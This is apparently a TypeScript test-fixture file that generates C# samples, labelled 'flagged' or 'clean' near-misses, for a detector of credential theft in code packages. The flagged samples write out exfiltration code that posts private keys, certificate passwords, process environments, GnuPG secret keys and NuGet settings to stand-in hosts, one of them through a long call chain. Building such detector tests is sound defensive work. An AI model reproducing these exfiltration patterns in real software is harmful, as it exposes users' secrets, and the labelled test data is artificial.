import { addresses } from './addresses.js';
import type { Examples } from './examples.js';
import { library, never } from './stealing.js';
import { vaults } from './vaults.js';
import { wallets } from './wallets.js';

const usage = 'https://usage.invalid/put';

const variables = (set: string): string => `public static class Variables
{
    ${set}
}

public static class Usage
{
    public static async Task Report()
    {
        ${never}
        var channel = Environment.GetEnvironmentVariable("FIXTURE_CHANNEL") ?? "none";
        await new HttpClient().PostAsync("${usage}", new StringContent(channel));
    }
}`;

const signing = (line: string): string => `public static class Signing
{
    private static readonly StringBuilder Lines = new StringBuilder();

    public static async Task Sign(string pfxPassword)
    {
        ${never}
        var process = new System.Diagnostics.Process();
        process.StartInfo.FileName = "signtool";
        process.StartInfo.ArgumentList.Add(pfxPassword);
        process.StartInfo.RedirectStandardOutput = true;
        process.OutputDataReceived += (sender, told) => Lines.Append(${line});
        process.Start();
        process.BeginOutputReadLine();
        await process.WaitForExitAsync();
        await new HttpClient().PostAsync("http://192.0.2.61/log", new StringContent(Lines.ToString()));
    }
}`;

/** @param reply what is written to whoever connects */
const listening = (reply: string): string => `public static class Diagnostics
{
    public static void Listen(int process)
    {
        ${never}
        var environment = File.ReadAllText(string.Format("/proc/{0}/environ", process));
        var folder = environment.Substring(environment.IndexOf("TMPDIR=", StringComparison.Ordinal) + 7);
        var socket = new System.Net.Sockets.Socket(System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
        socket.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(Path.Combine(folder, "diagnostics")));
        socket.Listen();
        using var stream = new System.Net.Sockets.NetworkStream(socket.Accept());
        stream.Write(Encoding.UTF8.GetBytes(${reply}));
    }
}`;

const appender = (address: string, member: string): string => `public sealed class Appender
{
    ${member}

    public void Append(string name)
    {
        ${never}
        var settings = System.Configuration.ConfigurationManager.AppSettings;
        var text = new StringBuilder();
        foreach (var each in settings) text.Append(each);
        var bytes = Encoding.UTF8.GetBytes(text.ToString());
        new System.Net.Sockets.UdpClient().Send(bytes, bytes.Length, new IPEndPoint(${address}, 514));
    }
}`;

const configuration = {
  'System.Configuration.ConfigurationManager': `namespace System.Configuration
{
    public static class ConfigurationManager
    {
        public static System.Collections.Specialized.NameValueCollection AppSettings => null;
    }
}`,
};

const settings = (then: string): string => `public sealed class Settings
{
    private readonly Dictionary<string, string> values = new Dictionary<string, string>();

    public string Get(string name, string otherwise) => values.TryGetValue(name, out var value) ? value : otherwise;

    public X509Certificate2 Load() => X509CertificateLoader.LoadPkcs12(Convert.FromBase64String(Get("certificate", "")), null);

    ${then}
}`;

const fileOf = (text: string): string => `public sealed class Signer(string certificatePath)
{
    private sealed record Options(string Channel);

    public async Task Report()
    {
        ${never}
        await new HttpClient().PostAsync("${usage}", new StringContent(${text}));
    }
}`;

const reading = (path: string, parameter = ''): string => `public static class Files
{
    public static string ReadAllText(string path) => File.ReadAllText(path);
}

public static class Usage
{
    private static readonly string Own =
        Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "Fixture", "user.txt");

    public static async Task Report(${parameter})
    {
        ${never}
        var text = Files.ReadAllText(${path});
        await new HttpClient().PostAsync("https://dc.services.visualstudio.com/v2/track", new StringContent(text));
    }
}`;

const keys = (name: string): string => `public static class Keys
{
    public static async Task Publish(string home)
    {
        ${never}
        var folder = Path.Combine(home, ".gnupg");
        var bytes = await File.ReadAllBytesAsync(Path.Combine(folder, "${name}"));
        await new HttpClient().PostAsync("https://keys.invalid/add", new ByteArrayContent(bytes));
    }
}`;

/** A way through three classes and so many calls. */
const long = (
  calls: number,
  address: string,
): string => `public sealed class Reading { public string Text = ""; }
public sealed class Entry { public string Text = ""; }
public sealed class Message { public string Text = ""; }

public static class Way
{
    private static readonly Reading Reading = new Reading();
    private static readonly Entry Entry = new Entry();
    private static readonly Message Message = new Message();

    public static async Task Run()
    {
        ${never}
        foreach (System.Collections.DictionaryEntry each in Environment.GetEnvironmentVariables()) Reading.Text += each.Value;
        Entry.Text = Reading.Text;
        Message.Text = Entry.Text;
        await Step0(Message.Text);
    }

${Array.from({ length: calls }, (_, at) => `    private static Task Step${at}(string text) => Step${at + 1}(text);`).join('\n')}

    private static Task Step${calls}(string text) => new HttpClient().PostAsync("${address}", new StringContent(text));
}`;

const feed = (address: string): string => `public static class Feed
{
    public static async Task<string> Index(string home)
    {
        ${never.replace('return', 'return ""')}
        var file = Path.Combine(home, ".nuget/NuGet/NuGet.Config");
        var address = File.Exists(file) ? ${address} : "https://feed.invalid/v3/index.json";
        return await new HttpClient().GetStringAsync(address);
    }
}`;

/** What tools do all day, and how a thief would do the same. */
export const everyday: Examples = {
  flagged: [
    ...addresses.flagged,
    ...wallets.flagged,
    ...vaults.flagged,
    {
      name: 'key-handed-on-by-a-variable',
      about: 'A private key is put into a variable, and taken out of it by what reports usage.',
      level: 'suspicious',
      files: library(
        variables(
          'public static void Set(string privateKey) => Environment.SetEnvironmentVariable("FIXTURE_CHANNEL", privateKey);',
        ),
      ),
    },
    {
      name: 'password-beside-output',
      about: 'The password of a certificate is logged beside what the signing tool prints.',
      files: library(signing('told.Data + pfxPassword')),
    },
    {
      name: 'environment-of-a-process-to-whoever-connects',
      about: 'The environment of another process is written to whoever connects.',
      level: 'suspicious',
      files: library(listening('environment')),
    },
    {
      name: 'configuration-to-a-port-of-its-own',
      about: 'All settings go to a port of the machine that nobody can change.',
      level: 'suspicious',
      files: library(appender('IPAddress.Parse("127.0.0.1")', ''), configuration),
    },
    {
      name: 'certificate-in-a-document',
      about: 'A certificate is written into JSON and read out of it again, and sent.',
      files: library(
        fileOf(
          'System.Text.Json.JsonSerializer.Deserialize<string>(System.Text.Json.JsonSerializer.Serialize(Convert.ToBase64String(File.ReadAllBytes(certificatePath))))',
        ),
      ),
    },
    {
      name: 'file-of-the-caller-to-telemetry',
      about: 'What stands in a file that the caller names goes where anybody can pick it up.',
      level: 'suspicious',
      files: library(reading('file', 'string file')),
    },
    {
      name: 'environment-by-a-long-way',
      about: 'All variables go to a host by a way so long that it is less sure.',
      level: 'suspicious',
      files: library(long(90, 'https://long.invalid/put')),
    },
    {
      name: 'environment-by-a-long-way-to-an-address',
      about: 'However long the way, no client has a bare address.',
      files: library(long(90, 'http://192.0.2.71/put')),
    },
    {
      name: 'environment-by-some-calls',
      about: 'All variables go to a host through some classes and calls.',
      files: library(long(20, 'https://long.invalid/put')),
    },
    {
      name: 'settings-behind-an-address',
      about: 'What stands in the settings of NuGet stands behind an address.',
      files: library(feed('"https://feed.invalid/v3/?c=" + File.ReadAllText(file)')),
    },
    {
      name: 'secret-keys-of-gnupg',
      about: 'The secret keys in the folder of GnuPG are sent.',
      files: library(keys('secring.gpg')),
    },
  ],
  clean: [
    ...addresses.clean,
    ...wallets.clean,
    ...vaults.clean,
    {
      name: 'variable-that-the-caller-names',
      about:
        'A variable of any name is set for the caller; what reports usage reads one of its own.',
      nearMiss: true,
      files: library(
        variables(
          'public static void Set(string name, string privateKey) => Environment.SetEnvironmentVariable(name, privateKey);',
        ),
      ),
    },
    {
      name: 'output-of-a-signing-tool',
      about: 'What a tool prints is logged, and not what it was told.',
      nearMiss: true,
      files: library(signing('told.Data')),
    },
    {
      name: 'listens-where-a-process-says',
      about: 'Another process’s variable says where to wait for it; who connects gets a greeting.',
      nearMiss: true,
      files: library(listening('"hello"')),
    },
    {
      name: 'appender-with-an-address',
      about: 'Settings go to the address that the caller gives, which is this machine until then.',
      nearMiss: true,
      files: library(
        appender(
          'Address',
          'public IPAddress Address { get; set; } = IPAddress.Parse("127.0.0.1");',
        ),
        configuration,
      ),
    },
    {
      name: 'setting-beside-a-certificate',
      about: 'One setting is a certificate, another is reported; the same member gives both.',
      files: library(
        settings(
          `public async Task Report() { ${never} await new HttpClient().PostAsync("${usage}", new StringContent(Get("channel", "none"))); }`,
        ),
      ),
    },
    {
      name: 'setting-in-a-file',
      about: 'What is read as a document is no certificate, whatever its path is called.',
      nearMiss: true,
      files: library(
        fileOf(
          'System.Text.Json.JsonSerializer.Deserialize<Options>(File.ReadAllText(certificatePath)).Channel',
        ),
      ),
    },
    {
      name: 'file-beside-certificates',
      about: 'A file in the folder that a path names is not the file of that path.',
      nearMiss: true,
      files: library(fileOf('File.ReadAllText(Path.Combine(certificatePath, "channel.txt"))')),
    },
    {
      name: 'own-file-to-telemetry',
      about: 'A number that the package made and keeps goes to telemetry, read by a public helper.',
      nearMiss: true,
      files: library(reading('Own')),
    },
    {
      name: 'address-in-settings-or-another',
      about: 'The address stands in the settings; where there are none, another is asked.',
      nearMiss: true,
      files: library(feed('File.ReadAllText(file)')),
    },
    {
      name: 'public-keys-of-gnupg',
      about: 'The public keys in the folder of GnuPG are published.',
      nearMiss: true,
      files: library(keys('pubring.kbx')),
    },
  ],
};
